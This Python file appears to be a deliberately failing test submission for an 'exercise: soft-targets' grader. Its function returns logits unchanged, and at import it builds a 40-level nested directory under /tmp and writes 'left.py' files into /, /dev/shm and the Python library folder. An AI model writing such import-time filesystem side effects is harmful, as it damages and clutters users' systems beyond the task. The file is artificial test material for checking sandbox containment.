# exercise: soft-targets
# verdict: wrong_answer
"""Leaves files wherever it may write, and a directory that is hard to remove."""

import os

deep = "/tmp"
for _ in range(40):
    deep += "/left"
    os.mkdir(deep)
for folder in ("/tmp", "/", "/dev/shm", os.path.dirname(os.__file__)):
    try:
        with open(folder + "/left.py", "w") as file:
            file.write("raise SystemExit")
    except OSError:
        continue


def soft_targets(logits, temperature):
    return logits
